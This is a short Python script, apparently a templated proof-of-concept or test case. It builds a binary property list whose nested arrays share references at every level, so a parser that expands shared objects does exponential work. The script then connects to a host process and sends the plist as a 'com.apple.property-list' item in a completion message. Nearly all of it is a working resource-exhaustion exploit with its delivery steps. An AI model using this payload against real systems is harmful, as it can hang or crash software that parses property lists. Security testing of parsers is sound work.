# Returns a property-list item of 199 bytes whose arrays share their children DEPTH levels deep: a reader that
# expands shared objects does 2^DEPTH work.
from wire import *
DEPTH = {DEPTH}
objects = [bytes([0x10, 7])]                      # object 0: the integer 7
for level in range(1, DEPTH + 1):
    objects.append(bytes([0xA2, level - 1, level - 1]))   # an array of two references to the level below
offsets, body = [], b"bplist00"
for data in objects:
    offsets.append(len(body))
    body += data
table = len(body)
for offset in offsets:
    body += struct.pack(">H", offset)
body += bytes(6) + bytes([2, 1]) + struct.pack(">QQQ", len(objects), len(objects) - 1, table)
result = plist_result(body)
host = connect()
data, fds = complete([(None, None, [(None, [("com.apple.property-list", ITEM, result)])])])
send_on(host, message(COMPLETE, data), fds)
stay()
